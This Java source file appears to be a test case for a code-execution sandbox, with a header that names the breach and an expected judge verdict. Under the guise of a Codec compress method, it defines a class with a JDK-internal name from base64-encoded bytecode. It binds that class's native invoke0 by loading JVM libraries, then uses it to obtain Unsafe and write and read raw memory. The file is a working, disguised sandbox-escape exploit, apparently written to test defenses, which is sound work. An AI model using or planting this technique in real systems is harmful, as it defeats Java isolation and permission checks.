/* give a class of one's own the native methods of the library's class of that name, which ask for no rights
 * Breach: memory outside of the machine was written and read.
 *
 * verdict: AC RTE
 */

import java.lang.reflect.Method;
import java.util.ArrayList;
import java.util.List;

final class Codec {
    static byte[] compress(byte[] in) {
        List<String> got = new ArrayList<>();
        for (String library : new String[] {"libjava", "libnio", "libnet", "libzip", "libjimage", "server/libjvm"}) {
            try {
                Class<?> accessor = new Loader().loadClass(Loader.NAME);
                accessor.getMethod("load", String.class).invoke(null, "/java/lib/" + library + ".so");
                got.add(library + ": " + written(accessor.getMethod("invoke0", Method.class, Object.class, Object[].class)));
            } catch (ReflectiveOperationException | LinkageError closed) {
                continue;
            }
        }
        return String.join(" ", got).getBytes();
    }

    static byte[] decompress(byte[] in) {
        return compress(in);
    }

    private static Object written(Method invoke) throws ReflectiveOperationException {
        Class<?> owner = Class.forName("jdk.internal.misc.Unsafe");
        Object unsafe = invoke.invoke(null, owner.getMethod("getUnsafe"), null, new Object[0]);
        Object place = invoke.invoke(null, owner.getMethod("allocateMemory", long.class), unsafe, new Object[] {8L});
        Method put = owner.getMethod("putLong", long.class, long.class);
        invoke.invoke(null, put, unsafe, new Object[] {place, 42L});
        return invoke.invoke(null, owner.getMethod("getLong", long.class), unsafe, new Object[] {place});
    }

    /** Makes the class below one of the library's name. */
    static final class Loader extends ClassLoader {
        static final String NAME = "jdk.internal.reflect.NativeMethodAccessorImpl";

        Loader() {
            super(null);
        }

        @Override
        protected Class<?> loadClass(String name, boolean resolve) throws ClassNotFoundException {
            if (!name.equals(NAME)) return super.loadClass(name, resolve);
            Class<?> found = findLoadedClass(name);
            byte[] code = java.util.Base64.getDecoder().decode(CODE);
            return found != null ? found : defineClass(name, code, 0, code.length);
        }
    }

    // Compiled: public class jdk.internal.reflect.NativeMethodAccessorImpl {
    //     public static native Object invoke0(java.lang.reflect.Method method, Object owner, Object[] arguments);
    //     public static void load(String path) { System.load(path); }
    // }
    private static final String CODE =
        "yv66vgAAAD0AEgoAAgADBwAEDAAFAAYBABBqYXZhL2xhbmcvT2JqZWN0AQAGPGluaXQ+AQADKClWCgAIAAkHAAoMAAsADAEA"
        + "EGphdmEvbGFuZy9TeXN0ZW0BAARsb2FkAQAVKExqYXZhL2xhbmcvU3RyaW5nOylWBwAOAQAtamRrL2ludGVybmFsL3JlZmxl"
        + "Y3QvTmF0aXZlTWV0aG9kQWNjZXNzb3JJbXBsAQAEQ29kZQEAB2ludm9rZTABAFMoTGphdmEvbGFuZy9yZWZsZWN0L01ldGhv"
        + "ZDtMamF2YS9sYW5nL09iamVjdDtbTGphdmEvbGFuZy9PYmplY3Q7KUxqYXZhL2xhbmcvT2JqZWN0OwAhAA0AAgAAAAAAAwAB"
        + "AAUABgABAA8AAAARAAEAAQAAAAUqtwABsQAAAAABCQAQABEAAAAJAAsADAABAA8AAAARAAEAAQAAAAUquAAHsQAAAAAAAA==";
}
